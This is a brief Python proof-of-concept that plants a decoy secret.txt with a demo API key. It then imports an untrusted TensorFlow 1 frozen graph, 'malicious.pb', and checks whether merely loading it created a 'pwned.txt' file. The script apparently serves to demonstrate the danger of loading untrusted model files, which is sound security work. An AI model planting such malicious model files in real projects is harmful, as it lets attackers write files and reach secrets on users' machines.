# Requires: security/make_malicious_frozen_tf1.py
import os

import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()

with open("secret.txt", "w") as f:
    f.write("API_KEY=demo-1234\n")

graph_def = tf.GraphDef()
with open("malicious.pb", "rb") as f:
    graph_def.ParseFromString(f.read())

with tf.Graph().as_default() as graph:
    tf.import_graph_def(graph_def, name="")
    with tf.Session(graph=graph) as sess:
        print("imported, session open, nothing run: pwned.txt exists:", os.path.exists("pwned.txt"))
        print("y =", sess.run("y:0", {"x:0": [1.0, 2.0, 3.0]}))

with open("pwned.txt") as f:
    print("pwned.txt says:", f.read().strip())
